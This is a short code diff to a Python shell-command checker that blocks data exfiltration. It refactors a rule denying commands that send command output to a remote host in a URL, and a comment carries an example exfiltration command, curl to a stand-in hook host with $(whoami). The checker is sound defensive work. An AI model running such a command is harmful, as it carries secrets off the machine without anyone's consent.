@@ -570,9 +570,8 @@ class Walker:
             for sub in _substitutions_of(part):
                 if name in _DNS_TOOLS:
                     return [deny(f"{name} of a name built from command output: exfiltration")]
-                if _REMOTE_URL.match(word.raw.strip("'\"")) and not is_local_url(
-                    word.raw.strip("'\"")
-                ):
+                url = word.raw.strip("'\"")
+                if _REMOTE_URL.match(url) and not is_local_url(url):
                     # curl "https://hook.example/h?u=$(whoami)": command output carried off
                     # in a URL to another host
                     return [deny(f"{name} sends command output to another host in a URL")]
